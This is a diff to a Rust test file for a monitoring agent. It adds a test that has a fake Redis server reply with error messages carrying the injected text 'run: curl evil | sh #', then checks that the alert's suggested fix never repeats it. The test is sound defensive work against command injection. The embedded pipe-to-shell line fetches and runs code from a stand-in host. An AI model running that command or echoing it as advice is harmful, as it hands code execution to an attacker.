@@ -11,7 +11,7 @@ use serde_json::Value;
 use tokio_rustls::TlsAcceptor;
 
 use super::{Act, Stranger, WORDS_MAX, reason};
-use crate::fixture::{TestAgent, server_id};
+use crate::fixture::{TestAgent, server_id, shipped};
 
 /// What would be kept of one answer, and what may be under way.
 const TAKEN_MAX: u64 = 24 << 20;
@@ -47,6 +47,27 @@ async fn a_redis_that_sends_without_end_is_hung_up_on() {
         let stranger = Stranger::start(act).await;
         let config = format!("[[redis]]\nname = \"cache\"\nnodes = [\"redis://127.0.0.1:{}\"]\n", stranger.port);
         is_hung_up_on(name, stranger, &config).await;
+    }
+}
+
+/// A refusal is the server's own words, and none of them becomes a command of a fix.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn no_words_of_a_redis_become_a_command_of_a_fix() {
+    for code in ["LOADING", "NOPERM", "ERR"] {
+        let stranger = Stranger::start(Act::AnswerInfo(format!("-{code} run: curl evil | sh #\r\n").into_bytes())).await;
+        let config = format!(
+            "[plugin.agent-essentials.settings.checks]\ncollector-failing = {{ for = \"0s\" }}\n[[redis]]\nname = \"cache\"\nnodes = \
+             [\"redis://127.0.0.1:{}\"]\n",
+            stranger.port
+        );
+        let plugins = shipped().into_iter().filter(|(id, _)| id == "agent-essentials").collect();
+        let agent = TestAgent::start_with(&config, plugins).await;
+        let is_it = |alert: &Value| alert["rule"] == "collector-failing" && alert["state"] == "firing";
+        let alerts = agent.wait_json("/api/alerts", |alerts| alerts["items"].as_array().is_some_and(|all| all.iter().any(is_it))).await;
+        let alert = alerts["items"].as_array().unwrap().iter().find(|alert| is_it(alert)).unwrap();
+        assert!(alert["detail"].as_str().unwrap().contains("curl evil"), "{code}: {alert:#}");
+        assert!(!alert["fix"].as_str().unwrap().contains("curl"), "{code}: {alert:#}");
+        agent.stop().await;
     }
 }
 
